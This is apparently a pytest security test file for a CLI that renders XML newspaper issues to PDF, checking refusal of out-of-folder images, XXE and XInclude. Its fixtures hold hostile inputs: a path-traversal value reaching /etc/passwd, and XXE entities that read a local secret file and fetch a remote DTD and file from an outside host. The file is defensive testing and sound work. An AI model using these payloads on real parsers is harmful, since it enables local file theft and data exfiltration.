"""Hostile issues: image paths out of the issue's folder, and external entities
(XXE) that would read a local file or reach the network."""
from __future__ import annotations

import os
import shutil
import socket

import pytest

from robust_support import SAMPLE, assert_failed_cleanly, run_cli, with_previous

PHOTO = os.path.join(os.path.dirname(SAMPLE), "images", "tidy-streets.jpg")
SECRET = "SECRET-e9c1f0-do-not-print"


def photo_issue(folder, src: str) -> str:
    path = folder / "issue.xml"
    path.write_text('<?xml version="1.0" encoding="UTF-8"?>\n<issue paper="测试报" date="2022-08-31">\n'
                    '<page number="1" template="bulletin">\n'
                    f'<photo id="p1" src="{src}" col="1" span="2" line="1"><caption>图片说明。</caption></photo>\n'
                    '</page>\n</issue>\n', encoding="utf-8")
    return str(path)


@pytest.fixture
def outside(tmp_path):
    """An image outside the issue's folder, and the folder (tmp/issue/)."""
    shutil.copy(PHOTO, tmp_path / "outside.jpg")
    folder = tmp_path / "issue"
    (folder / "images").mkdir(parents=True)
    return tmp_path / "outside.jpg", folder


def escapes(outside_image, folder):
    (folder / "images" / "link.jpg").symlink_to(outside_image)
    return {"dotdot": "../outside.jpg", "absolute": str(outside_image), "symlink": "images/link.jpg"}


@pytest.mark.parametrize("kind", ["dotdot", "absolute", "symlink"])
def test_image_escaping_the_folder_is_refused(capsys, outside, kind):
    image, folder = outside
    src = escapes(image, folder)[kind]
    issue = photo_issue(folder, src)
    out = with_previous(str(folder / "issue.pdf"))
    code, _, err = run_cli(capsys, "build", issue, "-o", out, "--variant", "none")
    assert_failed_cleanly(code, err, out)
    assert err.startswith(f"{issue}:4:") and "<photo>" in err and "outside the issue's folder" in err, err


@pytest.mark.parametrize("kind", ["dotdot", "absolute", "symlink"])
def test_image_escaping_the_folder_builds_when_allowed(capsys, outside, kind):
    image, folder = outside
    issue = photo_issue(folder, escapes(image, folder)[kind])
    out = str(folder / "issue.pdf")
    code, _, err = run_cli(capsys, "build", issue, "-o", out, "--variant", "none", "--allow-outside-images")
    assert code == 0, err
    assert os.path.getsize(out) > 10_000                  # the photo is in it


def test_etc_passwd_as_an_image_leaks_nothing_even_when_allowed(capsys, tmp_path):
    issue = photo_issue(tmp_path, "../../../../../../../../etc/passwd")
    out = with_previous(str(tmp_path / "issue.pdf"))
    code, stdout, err = run_cli(capsys, "build", issue, "-o", out, "--allow-outside-images")
    assert_failed_cleanly(code, err, out)
    assert "cannot read image" in err
    with open("/etc/passwd", encoding="utf-8", errors="replace") as f:
        first = f.readline().strip()
    assert first and first not in stdout + err


# -- external entities ----------------------------------------------------------------

@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to open a connection fails the test (and is recorded)."""
    attempts = []

    def refuse(self, address, *args, **kwargs):
        attempts.append(address)
        raise AssertionError(f"network access to {address!r}")
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda address, *a, **k: refuse(None, address))
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *a, **k: refuse(None, host))
    return attempts


def xxe_issue(folder, secret_file) -> str:
    path = folder / "xxe.xml"
    path.write_text('<?xml version="1.0" encoding="UTF-8"?>\n'
                    '<!DOCTYPE issue [\n'
                    f'  <!ENTITY local SYSTEM "file://{secret_file}">\n'
                    '  <!ENTITY remote SYSTEM "http://203.0.113.9/secret.txt">\n'
                    '  <!ENTITY % dtd SYSTEM "http://203.0.113.9/evil.dtd"> %dtd;\n'
                    ']>\n'
                    '<issue paper="测试报" date="2022-08-31">\n<page number="1" template="bulletin">\n'
                    '<article id="a1"><headline>&local;</headline><p>正文&local;&remote;</p></article>\n'
                    '</page>\n</issue>\n', encoding="utf-8")
    return str(path)


@pytest.mark.parametrize("command", ["build", "validate", "check"])
def test_xxe_reads_no_file_and_opens_no_connection(capsys, tmp_path, no_network, command):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    issue = xxe_issue(tmp_path, secret)
    out = with_previous(str(tmp_path / "xxe.pdf"))
    extra = ["-o", out] if command == "build" else []
    code, stdout, err = run_cli(capsys, command, issue, *extra)
    assert code == 2, err
    assert err.startswith(f"{issue}:2:") and "DOCTYPE" in err, err
    assert SECRET not in stdout + err and "Traceback" not in err
    assert not no_network
    with open(out, "rb") as f:
        assert SECRET.encode() not in f.read()


def test_xinclude_is_not_followed(capsys, tmp_path, no_network):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    issue = tmp_path / "xi.xml"
    issue.write_text('<?xml version="1.0" encoding="UTF-8"?>\n'
                     '<issue xmlns:xi="http://www.w3.org/2001/XInclude" paper="测试报" date="2022-08-31">\n'
                     '<page number="1" template="bulletin">\n<article id="a1"><headline>标题</headline>\n'
                     f'<p><xi:include href="{secret}" parse="text"/></p></article>\n</page>\n</issue>\n',
                     encoding="utf-8")
    out = with_previous(str(tmp_path / "xi.pdf"))
    code, stdout, err = run_cli(capsys, "build", str(issue), "-o", out)
    assert_failed_cleanly(code, err, out)
    assert SECRET not in stdout + err and not no_network
